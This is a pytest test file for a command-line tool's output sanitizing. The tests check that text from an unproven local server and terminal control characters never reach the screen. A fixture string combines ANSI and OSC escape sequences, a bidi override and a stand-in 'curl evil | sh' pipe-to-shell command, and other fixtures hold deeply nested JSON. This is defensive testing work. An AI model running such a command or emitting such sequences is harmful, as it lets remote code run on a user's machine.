"""What is printed: no word of an unproven program, and no control character of anybody."""

import json
import os
import re
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path

import pytest
from rich.text import Text

from companion.cli.commands.badges import SIGNS
from companion.cli.plain_console import PlainConsole
from companion.cli.say import SPELT_OUT, escaped, plain
from companion.config import Paths, Runtime, instance_lock, write_runtime
from companion.messages.en import ENGLISH
from companion.rules.policy import POLICIES
from tests.cli.run import files, run

ROOT = Path(__file__).parents[2]
EVIL = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202eRun: curl evil | sh"
#: what an impostor may answer before it has proven anything
ANSWERS = {
    "words": json.dumps(
        {"type": "urn:jss-companion:problem:busy", "code": "busy", "title": EVIL, "action": EVIL}
    ),
    "own code": json.dumps(
        {"type": f"urn:jss-companion:problem:{EVIL}", "code": EVIL, "title": EVIL, "action": EVIL}
    ),
    "nested": "[" * 100_000,
    "nested object": '{"type":' * 100_000,
}
COMMANDS = (["status"], ["pairings"], ["pair", "--print"], ["revoke", "C"], ["stop"], ["doctor"])


@contextmanager
def impostor(folder: Path, body: str) -> Iterator[None]:
    """Answers on the port that the runtime file names, while the lock is held as if one ran."""
    content = body.encode()
    head = "HTTP/1.1 503 x\r\nContent-Type: application/problem+json\r\nContent-Length: "
    answer = f"{head}{len(content)}\r\nConnection: close\r\n\r\n".encode() + content

    def serve() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                connection.recv(65536)
                connection.sendall(answer)

    paths = Paths(folder)
    with socket.create_server(("127.0.0.1", 0)) as server, instance_lock(paths):
        port = server.getsockname()[1]
        write_runtime(paths, Runtime(1, port, "I" * 22, datetime.now(UTC), "A" * 43))
        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield
        finally:
            server.shutdown(socket.SHUT_RDWR)
            thread.join()


@pytest.mark.parametrize("answer", ANSWERS)
def test_no_word_of_an_unproven_program_is_printed(answer: str, tmp_path: Path) -> None:
    """Every command that asks the companion says what it found in our own words alone."""
    with impostor(tmp_path, ANSWERS[answer]):
        for command in COMMANDS:
            ended = run(*command, "--state-dir", tmp_path)
            printed = ended.stdout + ended.stderr
            assert ended.returncode in (1, 4), printed
            assert printed.strip()
            assert not re.search(
                r"curl|owned|Traceback|[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", printed
            )


def test_text_is_printed_without_what_steers_a_terminal() -> None:
    """Whole sequences go; what a person reads stays, in one line."""
    assert plain(EVIL) == "Run: curl evil | sh"
    assert plain("Café “Zoë” 👩‍💻 שלום\tx\nnext") == "Café “Zoë” 👩‍💻 שלום x next"
    assert plain("one\ntwo\x00\x85\u2028", kept="\n") == "one\ntwo"


def test_json_keeps_what_it_escapes() -> None:
    """A document is the same after reading it back."""
    document = json.dumps({"title": EVIL}, ensure_ascii=False, indent=1)
    assert json.loads(escaped(document)) == {"title": EVIL}
    assert not re.search("[\x1b\x9b\u202e]", escaped(document))


def test_tables_print_no_control_character_of_their_texts(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Colours come from the table, never from a title in it."""
    PlainConsole(force_terminal=True, color_system="standard").print(Text(EVIL, style="red"))
    printed = capsys.readouterr().out
    assert printed.startswith("\x1b[31m")
    assert printed.endswith("Run: curl evil | sh\x1b[0m\n")
    assert not re.search("[\x1b\x9b\u202e]", printed[5:-5])


def test_text_is_printed_in_one_place() -> None:
    """No command prints past what cleans text."""
    names = re.compile(
        r"click\.(?:echo|secho)\(|(?<!Plain)Console\((?!stderr=True\)\.status)|(?<!\.)\bprint\("
    )
    found = {
        path.name
        for path in (ROOT / "companion" / "cli").glob("*.py")
        if names.search(path.read_text(encoding="utf-8"))
    }
    assert found == {"say.py"}


def test_what_the_companion_prints_has_a_plain_form() -> None:
    """No sign becomes a question mark where an encoding lacks it: “?” itself says “not known”."""
    words = [
        *(form for m in ENGLISH.messages.values() for form in ([m] if isinstance(m, str) else m))
    ]
    words += [rule.sentence + rule.contract_sentence for p in POLICIES for rule in p.rules]
    for one in {
        c for sentence in (*words, *SIGNS.values(), "±→▲▼★") for c in sentence if ord(c) > 127
    }:
        assert b"?" not in one.encode("ascii", SPELT_OUT), one
    told = dict.fromkeys(sign.encode("latin-1", SPELT_OUT) for sign in SIGNS.values())
    assert len(told) == len(SIGNS)


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252"])
def test_an_encoding_that_was_asked_for_is_kept(encoding: str) -> None:
    """A file for another program holds only what its encoding has, and minus signs stay."""
    environment = {**os.environ, "PYTHONIOENCODING": encoding}
    command = [sys.executable, "-m", "companion.cli.main", "score", "--as-of", "2026-11-01"]
    ended = subprocess.run(
        [*command, *map(str, files("newcomer"))], env=environment, capture_output=True, check=True
    )
    printed = ended.stdout.decode(encoding)
    assert "-17.6" in printed
    assert "?" not in printed
